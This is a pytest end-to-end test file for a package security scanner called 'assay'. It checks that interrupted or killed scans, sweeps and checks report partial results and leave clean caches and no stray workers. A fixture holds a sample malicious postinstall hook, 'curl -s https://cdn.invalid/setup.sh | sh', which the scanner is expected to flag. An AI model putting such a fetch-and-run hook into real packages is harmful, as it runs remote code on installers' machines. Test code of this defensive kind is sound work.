"""^C in the middle, and a run that is killed."""

from __future__ import annotations

import json
import os
import re
import signal
import sqlite3
import subprocess
import time
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path

import pytest

from assay.store.corpus_file import save_corpus
from tests.end_to_end import locked
from tests.end_to_end.run import HANGS_SECONDS, Finished, Machine, command
from tests.names.small import small_bytes
from tests.registry_simulator import Fault, RegistrySimulator

FETCHES = {"scripts": {"postinstall": "curl -s https://cdn.invalid/setup.sh | sh"}}


@pytest.fixture(autouse=True)
def heard() -> Iterator[None]:
    """Runs started here hear ^C, even if these tests run in the background, where shells have it ignored."""
    before = signal.signal(signal.SIGINT, signal.default_int_handler)
    yield
    signal.signal(signal.SIGINT, before)


@pytest.fixture
def stuck(registry: RegistrySimulator, project: Path) -> Path:
    """A project of three packages; the registry never sends the tarball of one."""
    published = [registry.publish("bad-thing", manifest=FETCHES), registry.publish("plain-thing")]
    locked.project_of(project, *published, registry.publish("stuck-thing"))
    registry.fault("/stuck-thing/-/*", Fault.SLOW, seconds=HANGS_SECONDS)
    return project


@pytest.mark.parametrize("whole_group", [True, False], ids=["from the keyboard", "to the process alone"])
def test_the_first_interrupt_gives_the_report_of_what_was_done(
    whole_group: bool, stuck: Path, registry: RegistrySimulator, machine: Machine
) -> None:
    running = start(machine, "scan", stuck, "--format", "json")
    until(lambda: kept(machine) == {"bad-thing", "plain-thing"} and stuck_tarball(registry))
    workers = members(running.pid) - {running.pid}
    assert workers
    (os.killpg if whole_group else os.kill)(running.pid, signal.SIGINT)
    done = finished(running)
    assert (done.code, done.stderr) == (1, "")
    assert done.refs == {"bad-thing@1.0.0", "plain-thing@1.0.0", "stuck-thing@1.0.0"}
    assert done.by_ref["plain-thing@1.0.0"]["gaps"] == []
    assert "install-script-fetches" in done.rules("bad-thing@1.0.0")
    assert "stopped" in done.why_not("stuck-thing@1.0.0")
    until(lambda: not members(running.pid))

    registry.heal()
    again = machine.scan(stuck)
    assert again.code == 1
    assert {ref: each["source"] for ref, each in again.by_ref.items()} == {
        "bad-thing@1.0.0": "cached",
        "plain-thing@1.0.0": "cached",
        "stuck-thing@1.0.0": "fresh",
    }


def test_an_interrupt_with_nothing_to_block_counts_as_unchecked(
    registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    registry.fault("/stuck-thing", Fault.SLOW, seconds=HANGS_SECONDS)
    locked.project_of(project, registry.publish("stuck-thing"))
    running = start(machine, "scan", project, "--format", "json")
    until(lambda: "/stuck-thing" in registry.paths())
    running.send_signal(signal.SIGINT)
    done = finished(running)
    assert (done.code, done.stderr, done.refs) == (3, "", {"stuck-thing@1.0.0"})


def test_an_interrupt_while_ranges_are_resolved(registry: RegistrySimulator, machine: Machine) -> None:
    registry.publish("plain-thing")
    registry.publish("stuck-thing")
    registry.fault("/stuck-thing", Fault.SLOW, seconds=HANGS_SECONDS)
    running = start(machine, "scan", "plain-thing@1.0.0", "stuck-thing", "bad-thing@1.0.0", "--format", "json")
    until(lambda: "/stuck-thing" in registry.paths())
    running.send_signal(signal.SIGINT)
    done = finished(running)
    assert (done.code, done.stderr) == (3, "")
    assert done.refs == {"plain-thing@1.0.0", "bad-thing@1.0.0"}
    assert ["stopped" in gap["why"] for gap in done.input_gaps] == [True]


def test_a_second_interrupt_ends_the_run_with_a_message(stuck: Path, machine: Machine) -> None:
    """It can come at any moment, so only what holds at every moment is asked for."""
    running = start(machine, "scan", stuck, "--format", "json")
    until(lambda: len(members(running.pid)) > 1)
    while running.poll() is None:
        running.send_signal(signal.SIGINT)
        time.sleep(0.005)
    done = finished(running)
    assert done.code in (1, 3, 130, -signal.SIGINT)
    until(lambda: not members(running.pid))


def test_a_run_that_is_killed_leaves_no_worker_and_a_cache_that_is_right(
    stuck: Path, registry: RegistrySimulator, machine: Machine
) -> None:
    running = start(machine, "scan", stuck, "--format", "json")
    until(lambda: kept(machine) == {"bad-thing", "plain-thing"} and stuck_tarball(registry))
    running.kill()
    assert finished(running).code == -signal.SIGKILL
    until(lambda: not members(running.pid))
    registry.heal()
    again = machine.scan(stuck)
    assert (again.code, [gap for gap in again.report["gaps"] if gap["kind"] == "cache"]) == (1, [])
    assert again.report["coverage"]["from_cache"] == 2
    assert again.report["coverage"]["checked"] == 3


@pytest.mark.parametrize("whole_group", [True, False], ids=["from the keyboard", "to the process alone"])
def test_a_sweep_that_is_interrupted_writes_nothing(whole_group: bool, machine: Machine, tmp_path: Path) -> None:
    names, found = tmp_path / "names.txt", tmp_path / "found.jsonl"
    names.write_text("".join(f"react-{number}-lodahs-expres\n" for number in range(100_000)))
    found.write_text("of yesterday")
    running = start(machine, "sweep", "names", "--names", names, "-o", found)
    assert running.stderr is not None
    assert running.stderr.readline().startswith("comparing 100,000 names")
    (os.killpg if whole_group else os.kill)(running.pid, signal.SIGINT)
    done = finished(running)
    assert (done.code, done.stdout) == (130, "")
    assert done.stderr.strip() == "assay: stopped before there was anything to report"
    assert found.read_text() == "of yesterday"
    assert not list(tmp_path.glob("*.partial"))
    until(lambda: not members(running.pid))


@pytest.mark.parametrize("words", [("--name-only",), ()], ids=["names alone", "with releases"])
def test_a_check_that_is_interrupted_tells_what_it_knows(
    words: tuple[str, ...], registry: RegistrySimulator, machine: Machine
) -> None:
    registry.publish("plain-thing")
    registry.fault("/stuck-thing", Fault.SLOW, seconds=HANGS_SECONDS)
    running = start(machine, "check", "plain-thing", "stuck-thing", "--format", "json", *words)
    until(lambda: {"/plain-thing", "/stuck-thing"} <= set(registry.paths()))
    running.send_signal(signal.SIGINT)
    done = finished(running)
    assert (done.code, done.stderr) == (3, "")
    plain, stuck = map(json.loads, done.stdout.splitlines())
    assert (plain["name"], stuck["name"], stuck["exists"]) == ("plain-thing", "stuck-thing", None)
    assert stuck["reasons"][-1] == "the run was stopped before the registry was asked"


def test_a_check_offline_that_is_interrupted_says_how_far_it_came(machine: Machine) -> None:
    names = [f"loadsh-{number}" for number in range(10_000)]
    running = start(machine, "check", "--offline", "--format", "json", *names)
    assert running.stdout is not None
    assert json.loads(running.stdout.readline())["name"] == "loadsh-0"
    running.send_signal(signal.SIGINT)
    done = finished(running)
    assert done.code == 130
    assert re.fullmatch(r"assay: stopped after [\d,]+ of 10,000 names", done.stderr.strip())


def test_a_sweep_that_is_killed_leaves_no_worker(machine: Machine, tmp_path: Path) -> None:
    save_corpus(machine.data / "corpus.bin", small_bytes())
    names = tmp_path / "names.txt"
    names.write_text("".join(f"react-{number}-lodahs\n" for number in range(1_000_000)))
    running = start(machine, "sweep", "names", "--names", names)
    until(lambda: len(members(running.pid)) > 1)
    running.kill()
    assert finished(running).code == -signal.SIGKILL
    until(lambda: not members(running.pid))


def start(machine: Machine, *words: str | Path) -> subprocess.Popen[str]:
    """Start a run in a session of its own, as a terminal does."""
    return subprocess.Popen(
        command(*words),
        cwd=machine.home,
        env=machine.environment(),
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        encoding="utf-8",
        start_new_session=True,
    )


def finished(running: subprocess.Popen[str]) -> Finished:
    """Wait for its end."""
    stdout, stderr = running.communicate(timeout=HANGS_SECONDS)
    return Finished(running.returncode, stdout, stderr)


def until(is_so: Callable[[], bool]) -> None:
    """Wait for something to become true; whatever takes as long as this never does."""
    for _ in range(HANGS_SECONDS * 50):
        if is_so():
            return
        time.sleep(0.02)
    raise AssertionError("it did not happen")


def members(session: int) -> set[int]:
    """The living processes of a session."""
    found = set()
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rpartition(")")[2].split()
        except OSError:
            continue  # it has just ended
        if int(fields[3]) == session and fields[0] != "Z":
            found.add(int(stat.parent.name))
    return found


def kept(machine: Machine) -> set[str]:
    """Names in the verdict cache, while a run may be writing it."""
    file = machine.cache / "inspections.sqlite"
    try:
        with closing(sqlite3.connect(f"{file.as_uri()}?mode=ro", uri=True)) as connection:
            return {name for (name,) in connection.execute("SELECT name FROM inspections")}
    except sqlite3.OperationalError:
        return set()  # not there yet


def stuck_tarball(registry: RegistrySimulator) -> bool:
    return any(path.startswith("/stuck-thing/-/") for path in registry.paths())
